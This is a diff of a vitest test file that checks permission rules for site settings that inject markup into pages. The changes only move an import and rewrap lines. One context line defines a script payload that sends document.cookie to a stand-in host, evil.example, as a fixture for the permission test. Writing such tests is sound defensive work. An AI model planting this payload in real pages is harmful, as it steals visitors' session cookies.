@@ -8,7 +8,6 @@
  */
 import { describe, expect, it } from "vitest";
 import { newId } from "../../src/lib/ids";
-import { storeTheme } from "../support/theme-helpers";
 import {
   api,
   type EdgeHeaders,
@@ -19,6 +18,7 @@ import {
   storedRow,
   uniqueSlug,
 } from "../support/sites-helpers";
+import { storeTheme } from "../support/theme-helpers";
 
 const SCRIPT = "<script>fetch('https://evil.example/'+document.cookie)</script>";
 
@@ -114,7 +114,9 @@ describe("settings that reach the page as markup need `code`", () => {
       ["site_owner", siteMember(site.id, "site_owner")],
     ];
     for (const [name, headers] of callers) {
-      const res = await patch(site.id, headers, { settings: { ...MARKUP, code_injection: `<!-- ${name} -->` } });
+      const res = await patch(site.id, headers, {
+        settings: { ...MARKUP, code_injection: `<!-- ${name} -->` },
+      });
       expect(res.status, `${name}: ${JSON.stringify(res.body)}`).toBe(200);
       expect(res.body.settings).toMatchObject({ code_injection: `<!-- ${name} -->` });
     }
@@ -162,7 +164,10 @@ describe("settings that reach the page as markup need `code`", () => {
     });
     expect(refused.status, refused.text).toBe(403);
     expect(await storedRow(site.id)).toEqual(before);
-    const lookOnly = await storeTheme({ scope: "org", org_id: orgId }, { customization: { theme_base: "dark" } });
+    const lookOnly = await storeTheme(
+      { scope: "org", org_id: orgId },
+      { customization: { theme_base: "dark" } },
+    );
     const applied = await api("POST", `/api/v1/sites/${site.id}/themes/apply`, {
       headers: editor,
       body: { theme_id: lookOnly },
